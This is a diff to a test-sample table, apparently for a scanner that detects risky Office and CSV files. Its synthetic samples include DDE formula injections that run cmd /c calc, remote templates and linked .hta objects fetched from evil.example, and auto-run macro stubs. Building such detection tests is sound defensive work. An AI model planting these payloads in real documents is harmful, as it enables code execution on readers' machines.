@@ -116,7 +116,11 @@ SAMPLES: dict[str, Sample] = {
     "a function with the name of an event's half": Sample("a.doc", _vba("Function worksheet_exists(n)\r\nEnd Function\r\n"), ("macro",)),
     "AutoOpen in a comment": Sample("a.doc", _vba("' Sub AutoOpen() was here\r\n" + PLAIN), ("macro",)),
     "source that was overwritten": Sample("a.doc", _vba(AUTO, lost=["ThisDocument"]), ("macro_hidden",)),
-    "source that tells another story": Sample("a.doc", _vba(PLAIN, cache=b"\0\0AutoOpen\0\0Shell\0"), ("macro_hidden", "macro")),
+    "source that tells another story": Sample("a.doc", _vba(PLAIN, cache=b"\0\0AutoOpenV\0\0Shell\0", compiled=3000), ("macro_hidden", "macro")),
+    "names that were left over": Sample("a.doc", _vba(PLAIN, cache=b"\0\0AutoOpen\0", compiled=900), ("macro",)),
+    "two modules of a name": Sample(
+        "a.doc", office.word({**office.project({"M": PLAIN}), "Forms/M": b"no source"}), ("macro",)
+    ),
     "macros in slides": Sample("a.ppt", office.slides(office.compound(office.project({"M": "Sub Auto_Open()\r\nEnd Sub\r\n"}))), ("macro_auto",)),
     "macros in slides, not packed": Sample("a.ppt", office.slides(office.compound(office.project({"M": SHELL})), False), ("macro_suspicious",)),
     "macros in a web archive": Sample("a.doc", _web_archive(_PROJECT), ("macro_auto",)),
@@ -160,8 +164,18 @@ SAMPLES: dict[str, Sample] = {
     "DDE in a doc in UTF-16": Sample("a.doc", office.word(text=f"\x13 {_DDE} \x14x\x15".encode("utf-16-le")), ("dde",)),
     "DDE in rich text": Sample("a.rtf", office.rich("{\\field{\\*\\fldinst {\\b DDE}{\\i AUTO} cmd}}"), ("dde",)),
     "DDE in an xls": Sample("a.xls", office.workbook(office.dde_link("cmd", "/c calc")), ("dde",)),
+    "a link to another workbook": Sample("a.xls", office.workbook(office.dde_link("\1\1C", "x\3b.xls"))),
     "DDE in an xlsx": Sample("a.xlsx", office.zipped({"xl/externalLinks/l.xml": '<?xml version="1.0"?><x><ddeLink ddeService="cmd" ddeTopic="/c"/></x>'}), ("dde",)),
     "DDE in an ods": Sample("a.ods", _odf('<table:dde-link><office:dde-source office:dde-application="cmd" office:dde-topic="x"/></table:dde-link>'), ("dde",)),
+    "DDE in an xlsb": Sample(
+        "a.xlsb", office.zipped({"xl/externalLinks/l.bin": b"\xe8\x02\x14\1\0" + struct.pack("<I", 3) + "cmd".encode("utf-16-le") + bytes(9)}), ("dde",)
+    ),
+    "DDE in Excel 2003 XML": Sample(
+        "a.xml", b"<?xml version='1.0'?><Workbook><Cell ss:Formula=\"=cmd&#124;'/c calc'!A1\"/></Workbook>", ("dde",)
+    ),
+    "a link to another workbook, and sheets of odd names": Sample(
+        "a.xls", office.workbook(office.record(0x1AE, struct.pack("<HHB", 1, 4, 0) + b"book" + b"\3\0\0a\3b"))
+    ),
     "DDE in a CSV": Sample("a.csv", b"a,b\r\n1,=cmd|'/C calc'!A0\r\n", ("dde",)),
     "DDE in a CSV behind a sum": Sample("a.csv", b'"=1+cmd|\'/C calc\'!A0"\r\n', ("dde",)),
     "a CSV with bars": Sample("a.csv", b"a|b|c!\r\n=1+1|2|x\r\n"),
@@ -170,6 +184,8 @@ SAMPLES: dict[str, Sample] = {
     # what is fetched
     "a template from elsewhere": Sample("a.docx", _related("attachedTemplate", "https://evil.example/t.dotm"), ("remote",)),
     "a template on a share": Sample("a.docx", _related("attachedTemplate", "file:///\\\\evil.example\\s\\t.dotm"), ("remote",)),
+    "a template in the own network": Sample("a.docx", _related("attachedTemplate", "file:///\\\\server\\s\\t.dotm")),
+    "a template on a machine without a name": Sample("a.docx", _related("attachedTemplate", "file:///\\\\3221225985\\t.dotm"), ("remote",)),
     "a template on the own disk": Sample("a.docx", _related("attachedTemplate", "file:///C:\\Users\\Jane\\Normal.dotm")),
     "an object from elsewhere": Sample("a.docx", _related("oleObject", "mhtml:https://evil.example/x!x-usc:https://evil.example/x"), ("remote",)),
     "a page in a frame": Sample("a.docx", _related("frame", "http&#58;//evil.example/"), ("remote",)),
@@ -180,6 +196,10 @@ SAMPLES: dict[str, Sample] = {
     "a template in a doc": Sample("a.doc", office.word(template="http://evil.example/t.dot"), ("remote",)),
     "a linked object": Sample("a.doc", _linked("http://evil.example/a.hta"), ("remote",)),
     "a linked object in rich text": Sample("a.rtf", _in_rich("OLE2Link", _linked("http://evil.example/a.hta"), "\\objautlink"), ("remote",)),
+    "control words that are shown": Sample("a.rtf", office.rich("\\\\template http://evil.example/ \\\\objdata 00")),
+    "control words behind a backslash that is shown": Sample(
+        "a.rtf", office.rich("{\\*\\\\\\template http://evil.example/}"), ("remote",)
+    ),
     "a web query": Sample("a.iqy", b"WEB\r\n1\r\nhttp://evil.example/x\r\n", ("remote",)),
     # what is embedded
     "a script in a package": Sample("a.doc", _embedded("invoice.js"), ("program",)),
